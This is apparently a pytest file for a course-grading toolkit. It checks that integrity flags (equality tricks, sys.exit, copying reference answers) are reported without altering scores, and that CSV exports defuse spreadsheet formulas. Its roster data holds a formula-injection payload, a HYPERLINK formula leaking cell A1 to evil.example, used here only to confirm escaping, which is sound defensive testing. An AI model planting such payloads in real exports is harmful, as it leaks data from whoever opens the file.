"""What needs a look, in the class report and flags.csv; and no export field a spreadsheet would run.

A real course (module 03) with a roster whose names start like spreadsheet formulas, and
four submissions graded by `rotation-kit grade autograde` (the real nbgrader): an honest
one, one whose answer returns an object that claims to equal everything, one that calls
`sys.exit`, and one whose answers delegate to the kit's reference code. `rotation-kit grade
export` then writes the report and the files, read back here with the csv module.
"""

from __future__ import annotations

import csv
import html

import hostile as H
import pytest
from support import grade_cli, read_csv_rows

from rotation_kit.commands.grade.demo import new_course
from rotation_kit.commands.grade.export import cell, write_csv
from rotation_kit.commands.grade.integrity import FLAG_KINDS
from rotation_kit.commands.grade.roster import Learner, import_roster, write_roster

M = H.MODULE
HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Click me")'
LEARNERS = [
    Learner("honest", "Hana", "Okafor", "hana@uni.example", "3001"),
    Learner("trick", HYPERLINK, "+Lopez", "@trick@uni.example", "3002"),
    Learner("quitter", "Quinn", "-Ortiz", "quinn@uni.example", "3003"),
    Learner("delegate", "Dev", "Rao", "dev@uni.example", "3004"),
]


def _cli(*args):
    return grade_cli(*args, timeout=1800)


@pytest.fixture(scope="module")
def exported(tmp_path_factory):
    base = tmp_path_factory.mktemp("flags")
    course = new_course(base / "course", [M], log=lambda *a: None, templates=False)
    import_roster(course, write_roster(LEARNERS, base / "roster.csv"))
    H._write(course.submitted / "honest" / M, H.full(course))
    H.flagged(course, course.submitted / "trick" / M, "equality-trick")
    H.flagged(course, course.submitted / "quitter" / M, "exit")
    nb, used = H.kit_answers(course, M, ways=["import-wrapper", "getattr-importlib"])
    H._write(course.submitted / "delegate" / M, nb)
    summary = _cli("autograde", "--course", str(course.root), "--no-progress")
    out = base / "export"
    _cli("export", "--course", str(course.root), "--out", str(out))
    return course, out, summary, used


@pytest.mark.pipeline
@pytest.mark.xdist_group("grading-flags")
def test_the_report_and_flags_csv_name_what_needs_a_look(exported):
    course, out, summary, used = exported
    assert "Flagged for review" in summary
    report = html.unescape((out / "report.html").read_text(encoding="utf-8"))
    section = report[report.index("<h2>Needs a look (3 submissions)</h2>") :]
    section = section[: section.index("</dl>")]
    assert "None of it changes a score" in section
    listed = {}  # learner -> the list items of their row
    for row in section.split("<tr>")[2:]:
        learner = row[row.index("<code>") + 6 : row.index("</code>")]
        assert f"<td>{M}</td>" in row
        listed[learner] = [item.split("</li>")[0] for item in row.split("<li>")[1:]]
    assert set(listed) == {"trick", "quitter", "delegate"}  # the honest learner is not listed
    assert any(
        i.startswith("<code>equality-trick</code> (ex31_answer): defines class Anything") for i in listed["trick"]
    )
    assert "<code>exit</code> (ex31_answer): calls sys.exit()" in listed["quitter"]
    kit = [i for i in listed["delegate"] if i.startswith("<code>kit-answer</code> (exercise ex31): ")]
    assert kit and "summarise_by" in kit[0]
    assert "Dev Rao" in section and HYPERLINK in section  # the name, shown as text (escaped in the page)
    assert HYPERLINK not in (out / "report.html").read_text(encoding="utf-8")
    for kind, meaning in FLAG_KINDS.items():  # the legend
        assert f"<dt><code>{kind}</code></dt><dd>{meaning}</dd>" in section

    rows = read_csv_rows(out / "flags.csv")
    assert list(rows[0]) == [
        "assignment",
        "student_id",
        "last_name",
        "first_name",
        "kind",
        "meaning",
        "where",
        "exercise",
        "what_was_seen",
    ]
    by_learner: dict[str, set[str]] = {}
    for row in rows:
        assert row["assignment"] == M and row["what_was_seen"] and row["meaning"] == FLAG_KINDS[row["kind"]]
        by_learner.setdefault(row["student_id"], set()).add(row["kind"])
    assert set(by_learner) == {"trick", "quitter", "delegate"}
    assert "equality-trick" in by_learner["trick"] and "exit" in by_learner["quitter"]
    assert "kit-answer" in by_learner["delegate"]
    delegated = {r["exercise"] for r in rows if r["student_id"] == "delegate" and r["kind"] == "kit-answer"}
    assert {a.rsplit("_", 1)[0] for a in used} <= delegated
    trick = next(r for r in rows if r["student_id"] == "trick")
    assert (trick["first_name"], trick["last_name"]) == ("'" + HYPERLINK, "'+Lopez")  # shown, never run


@pytest.mark.pipeline
@pytest.mark.xdist_group("grading-flags")
def test_flags_change_no_grade_and_no_export_field_starts_a_formula(exported):
    course, out, _, _ = exported
    grades = {r["student_id"]: r for r in read_csv_rows(out / "grades.csv")}
    assert float(grades["honest"]["score"]) > float(grades["trick"]["score"]) > 0
    # the equality trick and the exit score nothing for ex31, and everything else as the honest learner
    with course.gradebook() as gb:
        cells = {s: {g.name: g.score for g in gb.find_submission_notebook(M, M, s).grades} for s in grades}
    for learner in ("trick", "quitter"):
        assert cells[learner]["ex31_tests"] == 0
    assert {k: v for k, v in cells["trick"].items() if k != "ex31_tests"} == {
        k: v for k, v in cells["honest"].items() if k != "ex31_tests"
    }

    assert (grades["trick"]["first_name"], grades["trick"]["last_name"], grades["trick"]["email"]) == (
        "'" + HYPERLINK,
        "'+Lopez",
        "'@trick@uni.example",
    )
    assert grades["quitter"]["last_name"] == "'-Ortiz"
    canvas = {r["SIS Login ID"]: r for r in read_csv_rows(out / "canvas_grades.csv")[1:]}
    assert canvas["trick"]["Student"] == "'+Lopez, " + HYPERLINK  # the field starts with "+": quoted once
    moodle = {r["Username"]: r for r in read_csv_rows(out / "moodle_grades.csv")}
    assert moodle["trick"]["First name"] == "'" + HYPERLINK and moodle["quitter"]["Last name"] == "'-Ortiz"
    for name in ("grades.csv", "canvas_grades.csv", "moodle_grades.csv", "flags.csv"):
        with open(out / name, newline="", encoding="utf-8") as handle:
            for row in csv.reader(handle):
                for field in row:
                    assert not field.startswith(("=", "+", "@", "\t", "\r")), (name, field)
                    assert not field.startswith("-") or float(field) <= 0, (name, field)
        for r in read_csv_rows(out / name) if name != "flags.csv" else []:
            for column in ("score", "raw_score", "max_score"):
                if column in r:
                    float(r[column])  # numbers stay numbers


def test_a_formula_is_written_as_text_and_a_number_as_a_number(tmp_path):
    values = [
        HYPERLINK,
        "+44 20 7946 0000",
        "-Ortiz",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
        "=",
        "-",
        "-1.5",
        "+2",
        "-0",
        "16",
        "12.5",
        "Al-Sayed",
        "O'Brien, Jr.",
        'Ana "Nana"',
        "",
        None,
        7,
        -3.25,
    ]
    expected = [
        "'" + HYPERLINK,
        "'+44 20 7946 0000",
        "'-Ortiz",
        "'@SUM(A1:A9)",
        "'\t=1+1",
        "'\r=1+1",
        "'=",
        "'-",
        "-1.5",
        "+2",
        "-0",
        "16",
        "12.5",
        "Al-Sayed",
        "O'Brien, Jr.",
        'Ana "Nana"',
        "",
        "",
        "7",
        "-3.25",
    ]
    assert [cell(v) for v in values] == expected
    path = write_csv(tmp_path / "t.csv", ["=header", "score"], [[v, "-1.5"] for v in values])
    with open(path, newline="", encoding="utf-8") as handle:
        table = list(csv.reader(handle))
    assert table[0] == ["'=header", "score"]
    assert [row[0] for row in table[1:]] == expected  # the csv module gives each field back whole
    assert all(float(row[1]) == -1.5 for row in table[1:])
